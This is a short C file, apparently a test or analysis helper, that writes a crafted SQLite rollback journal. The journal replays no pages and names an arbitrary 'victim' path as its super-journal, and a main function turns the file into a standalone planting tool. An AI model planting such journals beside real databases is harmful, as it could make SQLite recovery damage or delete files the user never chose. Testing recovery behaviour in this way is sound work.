/* See journal_plant.h; the format: https://www.sqlite.org/fileformat.html, section 3.  With a main of its own
 * (JOURNAL_PLANT_MAIN) it is the tool: JOURNAL VICTIM. */
#include "tests/analysis/journal_plant.h"

#include <stdint.h>
#include <stdio.h>
#include <string.h>

enum { SECTOR = 512, PAGE = 4096, LOCK_PAGE = 0x40000000 / PAGE + 1, PAGES = 25, NONCE = 1 };

static const unsigned char magic[8] = {0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7};

static void number_put(FILE *f, uint32_t n)
{
    for (int shift = 24; shift >= 0; shift -= 8)
        fputc((int)(n >> shift & 0xff), f);
}

int journal_plant(const char *journal, const char *victim)
{
    const uint32_t header[] = {0, NONCE, PAGES, SECTOR, PAGE}; /* no page is to be played */
    uint32_t sum = 0;
    FILE *f = fopen(journal, "we");
    if (!f)
        return -1;
    fwrite(magic, 1, sizeof(magic), f);
    for (size_t i = 0; i < sizeof(header) / sizeof(*header); i++)
        number_put(f, header[i]);
    while (ftell(f) < SECTOR)
        fputc(0, f);
    number_put(f, LOCK_PAGE);
    for (const char *p = victim; *p; p++)
        sum += (uint32_t)*p;
    fputs(victim, f);
    number_put(f, (uint32_t)strlen(victim));
    number_put(f, sum);
    fwrite(magic, 1, sizeof(magic), f);
    return fclose(f) ? -1 : 0;
}

#ifdef JOURNAL_PLANT_MAIN
int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: %s JOURNAL VICTIM\n", argv[0]);
        return 2;
    }
    return journal_plant(argv[1], argv[2]) ? 1 : 0;
}
#endif
